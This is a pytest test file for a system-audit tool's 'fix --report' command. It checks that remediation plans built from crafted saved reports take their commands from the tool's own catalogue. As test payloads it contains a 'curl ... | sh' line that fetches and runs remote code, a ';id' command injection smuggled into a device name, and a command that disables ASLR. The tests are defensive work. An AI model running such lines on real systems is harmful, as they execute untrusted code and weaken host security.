"""`fix --report` takes a saved report's check IDs, subjects and observed values, never its command text
(review 2026-12, X3): a crafted report's shell line never reaches root's plan script."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from stackaudit.checks.registry import load_all
from stackaudit.cli.main import main

PAYLOAD = "curl -s http://127.0.0.1:18999/x | sh"


def _report(tmp: Path, results: list[dict[str, Any]]) -> Path:
    path = tmp / "crafted.json"
    path.write_text(json.dumps({"schema": 2, "generated_at": "2026-12-01T10:00:00Z", "tool": {"version": "1"},
                                "host": {"hostname": "gpu01", "container": "none", "kernel": "6.8.0"},
                                "results": results}))
    return path


def _issue(check: str, steps: list[dict[str, Any]], subjects: list[str] | None = None) -> dict[str, Any]:
    return {"id": check, "status": "issue", "priority": "P1", "title": "Turn off automatic NUMA balancing",
            "subjects": subjects or [], "actual": 1, "waived": None, "fix": {"steps": steps, "note": ""}}


def _numa_steps() -> list[dict[str, Any]]:
    return json.loads(json.dumps(load_all()["KERN-NUMA-BALANCING"].fix.to_json()))["steps"]  # type: ignore[no-any-return]


def _plan(tmp: Path, report: Path, fmt: str, capsys: pytest.CaptureFixture[str]) -> str:
    out = tmp / f"plan.{fmt}"
    capsys.readouterr()
    assert main(["fix", "--report", str(report), "--format", fmt, "-o", str(out)]) == 0
    return out.read_text()


@pytest.mark.parametrize("where", ["commands", "revert"])
@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_a_shell_line_in_a_reports_fix_never_reaches_the_plan(where: str, fmt: str, tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    steps = _numa_steps()
    steps[0][where] = [{"line": PAYLOAD, "shell": True}]
    plan = _plan(tmp_path, _report(tmp_path, [_issue("KERN-NUMA-BALANCING", steps)]), fmt, capsys)
    assert "curl" not in plan and "127.0.0.1:18999" not in plan
    assert "sysctl -w kernel.numa_balancing=0" in plan  # the catalogue's step instead
    if fmt == "json":
        assert json.loads(plan)["fix_text_ignored"] == ["KERN-NUMA-BALANCING"]
    else:
        assert "fix text is not the catalogue's for KERN-NUMA-BALANCING" in plan


@pytest.mark.parametrize("line", [
    "sysctl -w kernel.randomize_va_space=0",  # another key
    "sysctl -w kernel.numa_balancing=0 kernel.randomize_va_space=0",  # another key after the catalogue's
    "modprobe -r nvidia_uvm",  # another check's command
])
def test_an_argv_command_not_the_checks_own_is_replaced(line: str, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    steps = _numa_steps()
    steps[0]["commands"] = [{"line": line, "argv": line.split()}]
    plan = _plan(tmp_path, _report(tmp_path, [_issue("KERN-NUMA-BALANCING", steps)]), "text", capsys)
    assert line not in plan and "sysctl -w kernel.numa_balancing=0" in plan


def test_an_unknown_check_id_is_left_out_and_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    steps = [{"does": "Turn off automatic NUMA balancing", "cost": "runtime", "scope": "host",
              "commands": [{"line": PAYLOAD, "shell": True}], "persistent": [], "revert": []}]
    plan = _plan(tmp_path, _report(tmp_path, [_issue("KERN-NUMA-BALANClNG", steps)]), "json", capsys)
    assert "curl" not in plan and json.loads(plan)["groups"] == []
    assert json.loads(plan)["fix_text_ignored"] == ["KERN-NUMA-BALANClNG"]


def test_subjects_fill_placeholders_as_one_quoted_word(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A subject with shell syntax fills the catalogue's `<bdf>` quoted, whatever the report's own text was."""
    fix = json.loads(json.dumps(load_all()["PCIE-MRRS"].fix.to_json()))
    fix["steps"][0]["commands"] = [{"line": "setpci -s 0000:01:00.0;id CAP_EXP+0x08.w=5000:7000", "shell": True}]
    plan = _plan(tmp_path, _report(tmp_path, [_issue("PCIE-MRRS", fix["steps"], ["0000:01:00.0;id"])]), "text",
                 capsys)
    assert "setpci -s '0000:01:00.0;id' CAP_EXP+0x08.w=5000:7000" in plan
    assert "0000:01:00.0;id CAP" not in plan


def test_the_catalogues_own_text_with_its_numbers_filled_is_kept(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    fix = json.loads(json.dumps(load_all()["PCIE-MRRS"].fix.to_json()))
    fix["steps"][0]["commands"] = [{"line": "setpci -s 0000:01:00.0 CAP_EXP+0x08.w=2000:7000",
                                    "argv": ["setpci", "-s", "0000:01:00.0", "CAP_EXP+0x08.w=2000:7000"]}]
    plan = _plan(tmp_path, _report(tmp_path, [_issue("PCIE-MRRS", fix["steps"], ["0000:01:00.0"])]), "json", capsys)
    assert json.loads(plan)["fix_text_ignored"] == []
    assert "setpci -s 0000:01:00.0 CAP_EXP+0x08.w=2000:7000" in plan
